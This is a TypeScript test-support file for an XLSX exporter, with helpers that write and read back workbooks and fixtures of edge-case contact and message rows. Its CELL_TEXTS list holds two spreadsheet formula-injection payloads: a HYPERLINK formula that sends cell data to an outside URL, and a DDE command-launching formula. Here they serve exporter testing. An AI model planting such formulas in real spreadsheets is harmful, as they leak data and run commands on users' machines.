import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { NASTY_TEXTS, type SectionRows } from '../rows.fixture.ts';

/** Support for tests: a workbook of nasty rows, and a reader that is not ours. */

const run = promisify(execFile);
const SCRIPT = fileURLToPath(new URL('../../../test/support/read-xlsx.py', import.meta.url));

/** As `test/support/read-xlsx.py` prints it. */
interface ReadWorkbook {
  sheets: {
    name: string;
    frozen: string | null;
    widths: number;
    rows: ({ t: 'text' | 'number' | 'boolean'; v: string | number | boolean; s: number } | null)[][];
  }[];
  files: string[];
  dates: number[][];
}

/** Runs `work` with the file in a folder that is gone afterwards. */
export async function withFile<T>(
  name: string,
  bytes: Buffer,
  work: (path: string, folder: string) => Promise<T>,
): Promise<T> {
  const folder = await mkdtemp(join(tmpdir(), 'convey-xlsx-'));
  try {
    const path = join(folder, name);
    await writeFile(path, bytes);
    return await work(path, folder);
  } finally {
    await rm(folder, { recursive: true });
  }
}

/** What Python's zipfile and ElementTree read. */
export function readWorkbook(bytes: Buffer): Promise<ReadWorkbook> {
  return withFile('test.xlsx', bytes, async (path) => {
    const { stdout } = await run('python3', [SCRIPT, path], { maxBuffer: 1 << 28 });
    return JSON.parse(stdout) as ReadWorkbook;
  });
}

/** Texts that a spreadsheet, its XML or a CSV of it would spoil. */
export const CELL_TEXTS: readonly string[] = [
  ...NASTY_TEXTS,
  '=HYPERLINK("http://example.com/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '_x0041_',
  '_x000D_',
  '_x005F_x0041_',
  '007',
  '1e5',
  '1.33',
  '2026-05-01',
  '12345678901234567890',
  'TRUE',
  '#N/A',
  '<b>&amp;</b>]]>',
  ' leading and trailing ',
  '\n\n',
  'مرحبا بالعالم، الرقم ٤٢',
  'x'.repeat(32_767),
];

const AT = Date.parse('2026-05-01T08:00:00.123Z');

/** Contacts with every type, and conversations whose messages are the nasty texts. */
export const SECTIONS: readonly SectionRows[] = [
  {
    shape: {
      type: 'contact',
      section: 'contacts',
      columns: [
        { name: 'id', type: 'text', field: 0 },
        { name: 'phone', type: 'text', field: 1, phone: true },
        { name: 'tags', type: 'text[]', field: 2 },
        { name: 'metadata', type: 'jsonb', field: 3 },
        { name: 'created_at', type: 'timestamptz', field: 4 },
        { name: 'seq', type: 'bigint', field: 5 },
        { name: 'is_vip', type: 'boolean', field: 6 },
        { name: 'changed', type: 'xid8', field: 7 },
      ],
      lists: [],
    },
    records: [
      { values: ['0012', '+491701234567', ['vip', 'a;b'], '{"a": [1, "=1"]}', AT, 42, true, 7n] },
      { values: ['12345678901234567', null, [], null, null, 9007199254740993n, false, null] },
      { values: ['', '', null, '[]', AT + 1, -999_999_999_999_999n, null, null] },
    ],
  },
  {
    shape: {
      type: 'conversation',
      section: 'conversations',
      columns: [],
      lists: [
        {
          name: 'messages',
          type: 'message',
          columns: [
            { name: 'message_id', type: 'text', field: 0 },
            { name: 'body', type: 'text', field: 1 },
          ],
        },
      ],
    },
    records: [
      { values: [], lists: [[]] },
      { values: [], lists: [CELL_TEXTS.map((text, index) => [`m${index}`, text])] },
      { values: [], lists: [[['last', null]]] },
    ],
  },
];

export const SHEETS = [
  { name: 'contacts', rows: 'records' },
  { name: 'messages', rows: { list: 0 } },
] as const;
